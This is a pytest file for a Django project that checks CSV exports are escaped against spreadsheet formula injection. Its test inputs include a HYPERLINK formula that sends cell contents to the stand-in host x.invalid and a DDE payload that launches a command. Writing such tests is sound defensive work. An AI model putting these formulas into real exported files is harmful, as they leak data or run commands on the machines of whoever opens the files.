"""CSV injection: every CSV the project writes goes through passnum.csv_export, escaped."""

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib import admin
from frictionless import Resource, Schema

from passnum.csv_export import SafeCSV, escape_cell
from tests.mediators.test_public import SCHEMA_FILE, qualified_point

FORMULA = '=HYPERLINK("http://x.invalid/?"&A1;"Cliquez")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+SUM(1)", "'+SUM(1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-1.5536", "-1.5536"),  # a longitude is a number, not a formula
        ("+33 1 23 45 67 89", "+33 1 23 45 67 89"),  # a phone number neither
        ("Espace numérique", "Espace numérique"),
        (12, 12),
        (None, None),
    ],
)
def test_escape_cell(value, expected):
    assert escape_cell(value) == expected


@pytest.mark.django_db
def test_open_data_csv_escapes_formulas_and_stays_valid(client, tmp_path):
    qualified_point(name=FORMULA, address_complement="@étage", longitude="-1.5536")
    response = client.get("/api/v1/sites.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 1
    assert not any(value.startswith(("=", "@")) for value in rows[0].values())
    assert any(value == "'" + FORMULA for value in rows[0].values())
    path = tmp_path / "lieux.csv"
    path.write_bytes(response.content)
    schema = Schema.from_descriptor(json.loads(SCHEMA_FILE.read_text(encoding="utf-8")))
    report = Resource(path="lieux.csv", basepath=str(tmp_path), schema=schema).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


@pytest.mark.django_db
def test_admin_exports_escape_formulas():
    from mediators.qualification.models import Site
    from mediators.resources import SiteResource
    from tests.mediators.factories import SiteFactory

    site = SiteFactory()
    site.organisation.name = FORMULA
    site.organisation.save()
    model_admin = admin.site._registry[Site]
    assert model_admin.get_export_formats() == [SafeCSV]
    assert settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is True
    exported = SafeCSV().export_data(SiteResource().export(Site.objects.filter(pk=site.pk)))
    rows = list(csv.reader(io.StringIO(exported)))
    assert "'" + FORMULA in rows[1] and FORMULA not in rows[1]
    assert "None" not in rows[1]  # an empty cell stays empty


def test_every_csv_goes_through_the_one_writer():
    """No module writes CSV with the standard library directly (it would not escape)."""
    offenders = []
    for path in Path(settings.BASE_DIR).glob("*/**/*.py"):
        parts = path.relative_to(settings.BASE_DIR).parts
        if parts[0] in {"tests", "node_modules", "bench", "var"} or parts[0].startswith("."):
            continue
        if path.as_posix().endswith("passnum/csv_export.py"):
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(str(path))
    assert offenders == []
